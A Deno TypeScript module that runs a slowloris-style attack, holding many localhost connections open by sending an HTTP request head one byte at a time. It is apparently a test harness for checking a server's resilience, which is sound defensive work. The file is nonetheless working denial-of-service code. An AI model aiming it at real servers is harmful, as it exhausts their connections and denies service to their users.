/**
 * The attack with slow heads: connections on which a request head comes byte by byte and never ends.
 *
 * On the line "grow N" it opens connections until there are N and says how many the server has left open. Each has sent
 * one byte by then and sends one more every few seconds; one that the server has ended is opened anew at its next turn.
 * It ends when its standard input does, and after its lifetime in any case.
 *
 * Usage: `slow_heads.ts <port>`
 *
 * @module
 */

/** How the attack stands. */
export interface AttackReport {
  /** Connections that are open. */
  readonly open: number;
  /** How many the server has ended since the start. */
  readonly ended: number;
}

const LIFETIME_MS = 90_000;
/** Connections that are being opened at the same time, below every backlog of a listener. */
const OPENING_AT_ONCE = 100;
/** Time between two bytes on one connection. */
const INTERVAL_MS = 5_000;
/** They send in this many groups, one after another. */
const GROUPS = 50;
/** More bytes than are ever sent in a lifetime. */
const HEAD = new TextEncoder().encode("GET /light HTTP/1.1\r\nHost: localhost\r\nX-Slow: aaaaaaaaaa");

/** One slow client. */
class SlowClient {
  static ended = 0;
  isOpen = false;
  readonly #port: number;
  #conn: Deno.TcpConn | null = null;
  #sentBytes = 0;

  constructor(port: number) {
    this.#port = port;
  }

  /** Connects and sends the first byte. */
  async open(): Promise<void> {
    if (this.#conn !== null) return;
    try {
      this.#conn = await Deno.connect({ port: this.#port, hostname: "127.0.0.1" });
    } catch {
      SlowClient.ended++;
      return;
    }
    this.isOpen = true;
    this.#sentBytes = 0;
    this.#read(this.#conn);
    await this.#sendByte(this.#conn);
  }

  /** Sends one byte more, or begins anew. */
  takeTurn(): void {
    if (this.#conn !== null) this.#sendByte(this.#conn);
    else this.open();
  }

  async #sendByte(conn: Deno.TcpConn): Promise<void> {
    await conn.write(HEAD.subarray(this.#sentBytes, ++this.#sentBytes)).catch(() => this.#end(conn));
  }

  /** Whatever the server says is read to its end. */
  async #read(conn: Deno.TcpConn): Promise<void> {
    const buffer = new Uint8Array(512);
    for (;;) {
      const readBytes = await conn.read(buffer).catch(() => null);
      if (readBytes === null) return this.#end(conn);
    }
  }

  #end(conn: Deno.TcpConn): void {
    if (this.#conn !== conn) return;
    this.#conn = null;
    this.isOpen = false;
    SlowClient.ended++;
    conn.close();
  }
}

async function grow(clients: SlowClient[], port: number, count: number): Promise<AttackReport> {
  await Promise.all(Array.from({ length: OPENING_AT_ONCE }, async () => {
    while (clients.length < count) {
      const client = new SlowClient(port);
      clients.push(client);
      await client.open();
    }
  }));
  return { open: clients.filter(({ isOpen }) => isOpen).length, ended: SlowClient.ended };
}

async function main(port: number): Promise<void> {
  setTimeout(() => Deno.exit(1), LIFETIME_MS);
  const clients: SlowClient[] = [];
  let group = 0;
  setInterval(() => {
    for (let i = group; i < clients.length; i += GROUPS) clients[i].takeTurn();
    group = (group + 1) % GROUPS;
  }, INTERVAL_MS / GROUPS);
  for await (const line of Deno.stdin.readable.pipeThrough(new TextDecoderStream())) {
    console.log(JSON.stringify(await grow(clients, port, Number(/^grow (\d+)\n$/.exec(line)?.[1]))));
  }
  Deno.exit(0);
}

await main(Number(Deno.args[0]));
